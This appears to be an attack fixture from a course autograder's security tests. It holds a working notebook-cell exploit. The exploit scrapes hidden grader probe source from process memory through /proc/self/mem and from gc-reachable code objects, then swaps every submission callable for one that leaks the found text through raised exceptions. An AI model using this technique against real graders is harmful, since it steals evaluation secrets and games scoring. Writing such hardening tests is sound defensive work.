"""Tries to copy the hidden probes (tests/<id>/probes.py) into its feedback. In the grader's worker it
searches its own memory for the probe file's text, and falls back to the strings and names in the loaded probe
functions, padded with anything else it can see; every function and class of the notebook becomes one that raises
the next 1,800 characters of what it found, so every check that calls the submission answers with it.
(Before the worker's seal it also rebound Worker.call and lifted describe's 600-character cap: that now fails every
call with the seal's message, which names no probe.)"""
EXPECT_TOTAL = 0
BASE = "release"
ATTACK = r'''
import gc, re, sys
_w = sys.modules.get("course.judge.worker")
if _w is not None:
    _found = []

    def _strings(code, seen):
        if id(code) in seen:
            return
        seen.add(id(code))
        for c in code.co_consts:
            if isinstance(c, str):
                _found.append(c)
            elif hasattr(c, "co_consts"):
                _strings(c, seen)
        _found.extend(code.co_names)


    def _memory():
        hits = []
        try:
            maps = open("/proc/self/maps").read().splitlines()
            mem = open("/proc/self/mem", "rb", 0)
        except OSError:
            return hits
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw"):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > 1 << 28:
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            for m in re.finditer(rb"from course\.probelib import|\ndef [a-z_]+\(ns", data):
                hits.append(data[max(0, m.start() - 200):m.start() + 4000].decode("latin-1"))
                if len(hits) > 20:
                    return hits
        return hits

    _found.extend(_memory())
    for _obj in gc.get_objects():
        if type(_obj).__name__ == "Worker" and isinstance(getattr(_obj, "probes", None), dict):
            for _mod in _obj.probes.values():
                for _fn in vars(_mod).values():
                    if hasattr(_fn, "__code__"):
                        _strings(_fn.__code__, set())
    _found.append("\n".join(sorted(sys.modules)))
    _state = {"at": 0}

    class _Found(Exception):  # its own type: no check's expected error (a ValueError from the model, say) is matched
        pass

    def _leak(*args, **kwargs):
        text = "\n".join(_found)
        at = _state["at"] % max(1, len(text))
        _state["at"] = at + 1800
        raise _Found(f"LEAK {at}: " + text[at:at + 1800])

    # every function and class of the notebook (the release's stubs) becomes one that answers with what was found,
    # whatever a check calls on it (``ScaledMul.apply(...)``): each check that calls the submission answers with it
    # (rebinding the worker's Worker.call or describe, as this attack did before the worker's seal, now fails every
    # call with the seal's message instead)
    class _Leaky:
        def __call__(self, *args, **kwargs):
            _leak()

        def __getattr__(self, name):
            return self

    for _name, _cur in list(globals().items()):
        if not _name.startswith("_") and getattr(_cur, "__module__", None) == "__main__" and callable(_cur):
            globals()[_name] = _Leaky()
'''


def mutate(nb):
    import nbformat
    nb.cells.append(nbformat.v4.new_code_cell(ATTACK))
